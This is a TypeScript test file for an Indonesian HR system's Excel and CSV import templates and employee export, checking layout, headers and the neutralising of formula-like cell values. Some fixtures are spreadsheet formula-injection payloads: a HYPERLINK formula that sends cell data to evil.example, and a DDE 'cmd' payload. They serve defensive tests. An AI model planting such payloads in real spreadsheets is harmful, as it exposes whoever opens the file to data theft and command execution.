import { IMPORT_COLUMN_ALIASES, IMPORT_COLUMNS, MAX_IMPORT_ROWS, readImportHeader } from '@pamong/core';
import type { employeesRepo } from '@pamong/db';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readSheetRows, IMPORT_SHEET as WORKER_SHEET } from './import-file';
import {
  buildExportXlsx,
  buildTemplateCsv,
  buildTemplateXlsx,
  IMPORT_SHEET,
  type TemplateAgency,
  XLSX_CONTENT_TYPE,
} from './import-workbooks';

async function read(bytes: Uint8Array) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

const values = (row: ExcelJS.Row) => (row.values as unknown[]).slice(1);
const rowsOf = (ws: ExcelJS.Worksheet) => {
  const rows: ExcelJS.Row[] = [];
  ws.eachRow((row) => rows.push(row));
  return rows;
};

const agencies: TemplateAgency[] = [
  {
    id: '01JAGENCY00000000000000001',
    name: 'Dinas Pendidikan',
    code: 'DISDIK',
    units: [
      { id: '01JUNIT000000000000000001', name: 'Bidang SD' },
      { id: '01JUNIT000000000000000002', name: 'Bidang SMP' },
    ],
  },
  { id: '01JAGENCY00000000000000002', name: 'Inspektorat', code: null, units: [] },
  {
    id: '01JAGENCY00000000000000003',
    name: '=HYPERLINK("http://evil.example","Dinas")',
    units: [{ id: '01JUNIT000000000000000003', name: '+Unit & <Bagian>' }],
  },
];

const TEXT_KEYS = ['nip', 'phone', 'birthDate', 'tmtCpns', 'tmtRank', 'positionId', 'agencyId', 'unitId'];

describe('buildTemplateXlsx', () => {
  it('has the Pegawai, Petunjuk and Perangkat Daerah sheets', async () => {
    const wb = await read(await buildTemplateXlsx(agencies));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Pegawai', 'Petunjuk', 'Perangkat Daerah']);
    expect(wb.creator).toBe('Pamong');
    expect(IMPORT_SHEET).toBe(WORKER_SHEET);
    expect(XLSX_CONTENT_TYPE).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it('Pegawai: a frozen, bold, shaded header of Indonesian column names, each with its note; text columns as text', async () => {
    const ws = (await read(await buildTemplateXlsx(agencies))).getWorksheet('Pegawai')!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
    expect(ws.rowCount).toBe(1);
    const head = ws.getRow(1);
    expect(values(head)).toEqual(IMPORT_COLUMNS.map((c) => c.label));
    expect(values(head).slice(0, 10)).toEqual([
      'NIP',
      'Jenis Pegawai',
      'Nama Lengkap',
      'Gelar Depan',
      'Gelar Belakang',
      'Jenis Kelamin',
      'Tempat Lahir',
      'Tanggal Lahir',
      'Instansi/OPD',
      'Unit Kerja',
    ]);
    IMPORT_COLUMNS.forEach((c, i) => {
      const cell = head.getCell(i + 1);
      expect(cell.font?.bold).toBe(true);
      expect(cell.fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFE8EEF4' } });
      const note = cell.note;
      const text = typeof note === 'string' ? note : note?.texts?.map((t) => t.text).join('');
      expect(text).toBe(`${c.label}${c.required ? ' (wajib)' : ''}: ${c.hint}`);
      const column = ws.getColumn(i + 1);
      expect(column.width).toBe(Math.max(14, c.label.length + 4));
      // Typed text stays text in Excel: the column's format, and the header cell's too.
      const asText = TEXT_KEYS.includes(c.key);
      expect(column.numFmt).toBe(asText ? '@' : undefined);
      expect(cell.numFmt).toBe(asText ? '@' : undefined);
    });
  });

  it('Petunjuk: the title, the rules in Bahasa Indonesia and one line per column', async () => {
    const ws = (await read(await buildTemplateXlsx(agencies))).getWorksheet('Petunjuk')!;
    expect(ws.getCell('A1').value).toBe('Petunjuk impor data pegawai');
    expect(ws.getCell('A1').font).toMatchObject({ bold: true, size: 14 });
    const text = rowsOf(ws)
      .map((row) => values(row).join(' '))
      .join('\n');
    expect(text).toMatch(/NIP adalah kunci/);
    expect(text).toMatch(/KODE:level dipisah titik koma/);
    expect(text).toContain(`Paling banyak ${MAX_IMPORT_ROWS.toLocaleString('id-ID')} baris`);
    expect(text).toMatch(/unit kerja dan jabatan boleh ditulis dengan nama/);
    expect(text).toMatch(/templat lama: nip, name, agencyId/);
    // Title, 9 rules, a blank row, the header, the columns.
    expect(ws.getRow(11).cellCount).toBe(0);
    const head = ws.getRow(12);
    expect(values(head)).toEqual(['Kolom', 'Judul lain yang diterima', 'Wajib', 'Keterangan', 'Contoh']);
    expect(head.getCell(1).font?.bold).toBe(true);
    IMPORT_COLUMNS.forEach((c, i) => {
      expect(values(ws.getRow(13 + i))).toEqual([
        c.label,
        [c.key, ...(IMPORT_COLUMN_ALIASES[c.key] ?? [])].join(', '),
        c.required ? 'Ya' : 'Tidak',
        c.hint,
        c.example,
      ]);
    });
    expect(values(ws.getRow(13 + IMPORT_COLUMNS.findIndex((c) => c.key === 'agencyId')))[1]).toBe(
      'agencyId, Perangkat Daerah, OPD, Instansi',
    );
    expect([1, 2, 3, 4, 5].map((i) => ws.getColumn(i).width)).toEqual([24, 34, 10, 90, 26]);
  });

  it('Perangkat Daerah: one row per unit, an agency without units once, formula-like names neutralised', async () => {
    const ws = (await read(await buildTemplateXlsx(agencies))).getWorksheet('Perangkat Daerah')!;
    expect(rowsOf(ws).map(values)).toEqual([
      ['Perangkat Daerah', 'Kode', 'Unit', 'ID Perangkat Daerah', 'ID Unit'],
      ['Dinas Pendidikan', 'DISDIK', 'Bidang SD', agencies[0]!.id, agencies[0]!.units[0]!.id],
      ['Dinas Pendidikan', 'DISDIK', 'Bidang SMP', agencies[0]!.id, agencies[0]!.units[1]!.id],
      ['Inspektorat', '', '', agencies[1]!.id, ''],
      [`'${agencies[2]!.name}`, '', "'+Unit & <Bagian>", agencies[2]!.id, agencies[2]!.units[0]!.id],
    ]);
    expect(ws.getCell('A5').formula).toBeUndefined();
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect([1, 2, 3, 4, 5].map((i) => ws.getColumn(i).width)).toEqual([44, 14, 44, 30, 30]);
  });

  it('reads back through the import worker as a header with no problems', async () => {
    const rows = await readSheetRows(await buildTemplateXlsx(agencies), 'xlsx');
    expect(rows).toHaveLength(1);
    expect(rows[0]!.number).toBe(1);
    expect(rows[0]!.cells).toEqual(IMPORT_COLUMNS.map((c) => c.label));
    const header = readImportHeader(rows[0]!.cells);
    expect(header).toMatchObject({ fatal: null, warnings: [] });
    expect(header.columns).toEqual(IMPORT_COLUMNS.map((c) => c.key));
  });
});

describe('buildTemplateCsv', () => {
  it('is the Indonesian header line with a BOM; it reads back as the import columns', () => {
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(buildTemplateCsv());
    expect(text).toBe(`\uFEFF${IMPORT_COLUMNS.map((c) => c.label).join(',')}\r\n`);
    expect(readImportHeader(text.slice(1).trim().split(',')).columns).toEqual(
      IMPORT_COLUMNS.map((c) => c.key),
    );
  });
});

const row = (n: number, extra: Partial<employeesRepo.SearchRow> = {}): employeesRepo.SearchRow => ({
  employeeId: `emp-${n}`,
  name: `Pegawai ${n}`,
  nip: `19850312201001100${n}`,
  employmentType: 'PNS',
  agencyId: 'agency-1',
  agencyName: 'Dinas Pendidikan',
  unitId: 'unit-1',
  positionName: 'Analis Kepegawaian',
  rank: 'III/b',
  email: `pegawai${n}@example.go.id`,
  phone: '081234567890',
  highestEducation: 'S1',
  comps: { 'TEK-ANALISIS-DATA': 3, 'MAN-KEPEMIMPINAN': 2 },
  ...extra,
});

const exportMeta = {
  unitNames: new Map([['unit-1', 'Bidang SD']]),
  filters: ['agencyId=agency-1', 'employmentType=PNS'],
  truncated: false,
  generatedAt: new Date('2026-05-02T03:04:05.000Z'),
};

const EXPORT_HEADER = [
  'No',
  'NIP',
  'Nama',
  'Jenis Pegawai',
  'Perangkat Daerah',
  'Unit',
  'Jabatan',
  'Golongan',
  'Grade PPPK',
  'Pendidikan Tertinggi',
  'Kompetensi',
  'Email',
  'Telepon',
];

describe('buildExportXlsx', () => {
  it('Pegawai: a frozen shaded header, one row per employee, NIP as text, the number as a number', async () => {
    const rows = [
      row(1),
      row(2, {
        employmentType: 'PPPK',
        unitId: 'unit-gone',
        positionName: undefined,
        rank: undefined,
        grade: 'IX',
        email: 'p***@example.go.id',
        phone: '0812****90',
        highestEducation: null,
        comps: {},
      }),
    ];
    const wb = await read(await buildExportXlsx(rows, exportMeta));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Pegawai', 'Keterangan']);
    expect(wb.created.toISOString()).toBe('2026-05-02T03:04:05.000Z');
    const ws = wb.getWorksheet('Pegawai')!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const [head, first, second] = rowsOf(ws);
    expect(values(head!)).toEqual(EXPORT_HEADER);
    expect(head!.getCell(13).font?.bold).toBe(true);
    expect(head!.getCell(13).fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFE8EEF4' } });
    expect(values(first!)).toEqual([
      1,
      '198503122010011001',
      'Pegawai 1',
      'PNS',
      'Dinas Pendidikan',
      'Bidang SD',
      'Analis Kepegawaian',
      'III/b',
      '',
      'S1',
      'MAN-KEPEMIMPINAN:2;TEK-ANALISIS-DATA:3',
      'pegawai1@example.go.id',
      '081234567890',
    ]);
    expect(first!.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(first!.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(first!.getCell(2).numFmt).toBe('@');
    expect(ws.getColumn(2).numFmt).toBe('@');
    expect(values(second!)).toEqual([
      2,
      '198503122010011002',
      'Pegawai 2',
      'PPPK',
      'Dinas Pendidikan',
      'unit-gone',
      '',
      '',
      'IX',
      '',
      '',
      'p***@example.go.id',
      '0812****90',
    ]);
    expect(EXPORT_HEADER.map((_, i) => ws.getColumn(i + 1).width)).toEqual([
      6, 22, 32, 14, 36, 30, 30, 10, 10, 12, 40, 28, 16,
    ]);
  });

  it('neutralises an employee named as a formula (issue 10 point 5); a +62 phone stays as typed', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")';
    const bytes = await buildExportXlsx(
      [row(1, { name: evil, positionName: "-2+3+cmd|' /C calc'!A0", phone: '+6281234567890' })],
      exportMeta,
    );
    const cells = (await read(bytes)).getWorksheet('Pegawai')!.getRow(2);
    expect(cells.getCell(3).value).toBe(`'${evil}`);
    expect(cells.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(cells.getCell(3).formula).toBeUndefined();
    expect(cells.getCell(7).value).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(cells.getCell(13).value).toBe('+6281234567890');
  });

  it('Keterangan: the title, when, how many, the filters, and the truncation note when cut', async () => {
    const rows = [row(1), row(2)];
    const plain = (await read(await buildExportXlsx(rows, exportMeta))).getWorksheet('Keterangan')!;
    expect(rowsOf(plain).map(values)).toEqual([
      ['Ekspor data pegawai'],
      ['Dibuat', '2026-05-02T03:04:05.000Z'],
      ['Jumlah pegawai', 2],
      ['Filter', 'agencyId=agency-1; employmentType=PNS'],
    ]);
    expect(plain.getCell('A1').font).toMatchObject({ bold: true, size: 14 });
    expect([1, 2].map((i) => plain.getColumn(i).width)).toEqual([24, 70]);
    const cut = (
      await read(await buildExportXlsx(rows, { ...exportMeta, filters: [], truncated: true }))
    ).getWorksheet('Keterangan')!;
    expect(rowsOf(cut).map(values).slice(3)).toEqual([
      ['Filter', 'Tanpa filter (semua pegawai aktif)'],
      ['Catatan', 'Hasil dipotong pada 2 pegawai; persempit filter untuk data selengkapnya.'],
    ]);
  });

  it('writes the export cap of 5,000 rows', async () => {
    const rows = Array.from({ length: 5000 }, (_, i) =>
      row(i, { nip: `1985031220100110${String(i).padStart(4, '0')}` }),
    );
    const ws = (await read(await buildExportXlsx(rows, exportMeta))).getWorksheet('Pegawai')!;
    expect(ws.rowCount).toBe(5001);
    expect(ws.getCell('B5001').value).toBe('19850312201001104999');
    expect(ws.getCell('A5001').value).toBe(5000);
  }, 60_000);
});
